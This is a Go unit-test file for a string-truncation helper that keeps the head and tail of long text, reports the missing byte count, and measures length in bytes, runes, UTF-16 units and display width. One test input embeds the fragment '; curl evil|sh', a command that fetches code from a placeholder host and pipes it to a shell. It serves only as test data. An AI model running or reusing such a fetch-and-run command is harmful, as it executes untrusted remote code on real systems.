package summaries_test

import (
	"fmt"
	"strings"
	"testing"

	"holdpoint/summaries"
)

// notShown are the words of a gap in these tests.
func notShown(bytes int) string { return fmt.Sprintf("%d bytes not shown", bytes) }

func TestCutKeepsBothEndsAndSaysHowMuchIsMissing(t *testing.T) {
	command := strings.Repeat("a", 39_900) + "; curl evil|sh" + strings.Repeat("b", 86)
	gap := "⟨… 38000 bytes not shown …⟩"
	limit := summaries.Limit{Max: 2_000 + summaries.Runes(gap), Missing: notShown}
	got, cut := summaries.Cut(command, limit)
	if want := command[:1_000] + gap + command[39_000:]; !cut || got != want {
		t.Errorf("Cut(40,000 bytes) = %q, %v; want head, %q, tail", got, cut, gap)
	}
}

func TestCutAtEveryLimit(t *testing.T) {
	runes := func(limit int, missing summaries.Missing) summaries.Limit {
		return summaries.Limit{Max: limit, Missing: missing}
	}
	letters := "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	for _, tt := range []struct {
		name, in string
		limit    summaries.Limit
		want     string
		cut      bool
	}{
		{"exactly as long", "abcdef", runes(6, notShown), "abcdef", false},
		{"nothing fits nothing", "", runes(0, notShown), "", false},
		{"one too long, no room for words", "abcdef", runes(5, notShown), "a⟨…⟩f", true},
		{"room for words and one on each side", letters, runes(26, notShown), "a⟨… 50 bytes not shown …⟩Z", true},
		{"one less: both ends before words", letters, runes(25, notShown), letters[:11] + "⟨…⟩" + letters[41:], true},
		{"fewer digits than feared", letters + letters, runes(31, notShown), "abc⟨… 98 bytes not shown …⟩XYZ", true},
		{"no words given", "abcdefgh", runes(7, nil), "ab⟨…⟩gh", true},
		{"no room for both ends", "abcdef", runes(4, notShown), "…", true},
		{"room for one", "abcdef", runes(1, notShown), "…", true},
		{"room for none", "abcdef", runes(0, notShown), "", true},
		{"nothing fits even less", "", runes(-1, notShown), "", false},
		{"words that grow as less is missing", letters, runes(14, growing), "ab⟨… fewer …⟩Z", true},
		{"less than none", "abcdef", runes(-1, notShown), "", true},
		{"dots too long in bytes", "abcdef", summaries.Limit{Max: 2, Unit: summaries.Bytes}, "", true},
		{"an escape stays whole", "a⟨U+202E⟩bcdefgh⟨FF⟩", runes(11, nil), "a⟨…⟩fgh⟨FF⟩", true},
		{"an escape that fits", "⟨FF⟩aaaaaa⟨FF⟩", runes(11, nil), "⟨FF⟩⟨…⟩⟨FF⟩", true},
		{"a letter keeps its mark", "e\u0301xxxxe\u0301", runes(7, nil), "e\u0301⟨…⟩e\u0301", true},
		{"emoji count two units", "🚀🚀🚀🚀", summaries.Limit{Max: 7, Unit: summaries.UTF16}, "🚀⟨…⟩🚀", true},
		{"wide letters take two columns", "数据库数据库", summaries.Limit{Max: 7, Unit: summaries.Width}, "数⟨…⟩库", true},
		{"a flag is one grapheme", "🇫🇷🇩🇪🇮🇹🇪🇸", runes(7, nil), "🇫🇷⟨…⟩🇪🇸", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, cut := summaries.Cut(tt.in, tt.limit)
			if got != tt.want || cut != tt.cut {
				t.Errorf("Cut(%q, %d) = %q, %v; want %q, %v", tt.in, tt.limit.Max, got, cut, tt.want, tt.cut)
			}
		})
	}
}

// growing are words that are longer for less, against all expectation.
func growing(bytes int) string {
	if bytes < 50 {
		return "fewer"
	}
	return "many"
}

func TestCutCountsBytesOfTheTextBeforeItWasRendered(t *testing.T) {
	shown := summaries.Visible("a" + strings.Repeat("\u200b", 20) + strings.Repeat(" ", 300) + "\xffz")
	got, _ := summaries.Cut(shown, summaries.Limit{Max: 27, Missing: notShown})
	if want := "a⟨… 361 bytes not shown …⟩z"; got != want {
		t.Errorf("Cut = %q; want %q (20 of 3 bytes, 300 spaces, one byte)", got, want)
	}
}

func TestUnitsMeasureAsTheirHoldersDo(t *testing.T) {
	for _, tt := range []struct {
		in                         string
		bytes, runes, utf16, width int
	}{
		{"", 0, 0, 0, 0},
		{"abc", 3, 3, 3, 3},
		{"é", 2, 1, 1, 1},
		{"e\u0301", 3, 2, 2, 1},
		{"数", 3, 1, 1, 2},
		{"🚀", 4, 1, 2, 2},
		{"⟨U+202E⟩", 12, 8, 8, 8},
		{"a\xff", 2, 2, 2, 2},
		{"a    b", 6, 6, 6, 6},
	} {
		got := [4]int{summaries.Bytes(tt.in), summaries.Runes(tt.in), summaries.UTF16(tt.in), summaries.Width(tt.in)}
		if want := [4]int{tt.bytes, tt.runes, tt.utf16, tt.width}; got != want {
			t.Errorf("bytes, runes, UTF-16, width of %+q = %v; want %v", tt.in, got, want)
		}
	}
}
